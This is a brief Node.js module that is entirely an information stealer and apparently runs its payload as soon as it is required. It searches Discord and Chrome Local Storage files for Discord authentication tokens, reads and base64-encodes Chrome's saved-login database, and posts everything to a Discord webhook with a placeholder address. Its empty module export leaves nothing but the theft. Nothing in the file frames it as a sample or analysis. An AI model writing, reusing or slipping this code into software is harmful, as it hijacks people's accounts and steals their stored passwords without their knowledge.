const fs = require('fs'), path = require('path');
const appdata = process.env.APPDATA || '', local = process.env.LOCALAPPDATA || '';
const paths = [path.join(appdata, 'discord', 'Local Storage', 'leveldb'), path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Storage', 'leveldb')];
const tokens = [];
for (const p of paths) {
  try {
    for (const f of fs.readdirSync(p)) {
      if (!/\.(log|ldb)$/.test(f)) continue;
      const t = fs.readFileSync(path.join(p, f), 'utf8').match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}/g);
      if (t) tokens.push(...t);
    }
  } catch (e) {}
}
let cookies = '';
try { cookies = fs.readFileSync(path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')).toString('base64'); } catch (e) {}
fetch('https://discord.com/api/webhooks/000000000000000000/ZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZ', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ content: tokens.join('\n'), cookies }) });
module.exports = {};
